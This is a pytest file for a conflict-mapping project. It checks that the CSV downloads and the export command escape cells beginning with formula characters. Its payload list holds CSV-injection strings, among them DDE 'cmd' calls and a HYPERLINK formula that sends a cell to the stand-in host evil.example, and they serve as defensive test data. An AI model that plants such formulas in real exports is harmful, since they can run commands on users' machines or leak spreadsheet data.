"""Defect 2 of issue #14: a report text or actor starting with ``=``, ``+``, ``-``, ``@``, tab
or CR went unescaped into the public CSV export. Every CSV the project writes (the events'
and the zones' downloads, ``geomap export``) now writes such a cell with a leading ``'``,
and reading it back gives the value sent."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient

from geomap.cli import cli
from geomap.io import read_events
from geomap.models import ControlZone, Event, Report
from geomap.store import open_store
from tests.web.conftest import clockwise_square

PAYLOADS = ["=2+5+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "+1+cmd|' /C notepad'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
_FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(app: Flask) -> list[str]:
    with open_store(app.config["DATABASE_URL"]) as store:
        events = [Event(event_date=date(2016, 12, 11), event_type="Battles",
                        sub_event_type="Armed clash", actor1=p, actor2=p, location=p,
                        quote=p, notes=p, lat=36.2, lon=37.1, id=f"csv{i}")
                  for i, p in enumerate(PAYLOADS)]
        store.add_report(Report(text="Hostile cells.", published=date(2016, 12, 11),
                                source_name=PAYLOADS[0]), events)
        store.add_zones([ControlZone(p, clockwise_square(37.0, 36.0, 0.1),
                                     date(2016, 1, 1), None, p, p, f"zone-csv{i}")
                         for i, p in enumerate(PAYLOADS)])
    return PAYLOADS


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(_FORMULA) and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("path", ["/export/events.csv?type=Battles", "/export/zones.csv"])
def test_downloads_write_no_formula(client: FlaskClient, hostile: list[str], path: str) -> None:
    response = client.get(path)
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert _formula_cells(text) == []
    for payload in hostile:
        assert f"'{payload}" in text.replace('""', '"')


def test_geomap_export_writes_no_formula_and_reads_back(app: Flask, hostile: list[str],
                                                        tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "-o", str(out),
                                      "--database", app.config["DATABASE_URL"]])
    assert result.exit_code == 0, result.output
    assert _formula_cells(out.read_text(encoding="utf-8")) == []
    back = {e.quote for e in read_events(str(out))}
    assert set(hostile) <= back
